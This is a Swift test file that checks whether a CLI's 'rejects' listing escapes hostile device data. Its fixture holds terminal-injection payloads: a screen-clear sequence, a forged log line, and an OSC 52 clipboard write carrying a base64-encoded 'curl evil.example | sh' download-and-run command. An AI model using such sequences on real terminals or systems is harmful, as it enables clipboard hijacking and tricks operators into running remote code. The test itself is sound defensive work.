import Foundation
import KitchenModel
import Logging
import Storage
import StorageModel
import TestSupport
import Testing

/// Issue 20 item 4 through the real CLI: `brightkitchen rejects` lists what devices sent, and a
/// device's bytes must not reach the operator's terminal as control sequences.
@Suite struct RejectsOutputTests {
    var binary: String { productsDirectory().appendingPathComponent("brightkitchen").path }

    @Test func hostilePayloadsTopicsAndMessagesArePrintedEscaped() throws {
        let dir = TemporaryDirectory("bk-rejects-tty")
        let database = dir.file("bk.sqlite")
        let store = try Store(path: database)
        let writer = BatchWriter(store: store, logger: Logger(label: "test"))
        writer.start()
        defer { writer.stop() }
        let clear = "\u{1B}[2J\u{1B}[H"
        let clipboard = "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u{07}"
        let fakeLine = "\r\n2026-12-05T09:00:00Z notice gateway stopped cleanly"
        try writer.submitAndWait([
            .reject(RejectRecord(at: 1_764_900_000_000, reason: "bad_json", topic: "tele/plug\(clear)/SENSOR",
                                 message: "invalid JSON\(fakeLine)", payload: Array("{\(clipboard)\(clear)}".utf8))),
        ])
        let run = try runTool(binary, ["rejects", "--database", database])
        #expect(run.status == 0, "\(run.errors)")
        let bytes = Array(run.output.utf8)
        #expect(!bytes.contains(0x1B) && !bytes.contains(0x07) && !bytes.contains(0x0D), "no ESC, BEL or CR reaches the terminal")
        #expect(run.output.contains(#"tele/plug\x1b[2J\x1b[H/SENSOR"#), "\(run.output)")
        #expect(run.output.contains(#"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"#))
        #expect(run.output.contains(#"invalid JSON\x0d\x0a2026-12-05T09:00:00Z notice"#))
        #expect(run.output.split(separator: "\n").count == 3, "one reject, three lines: \(run.output)")
    }
}
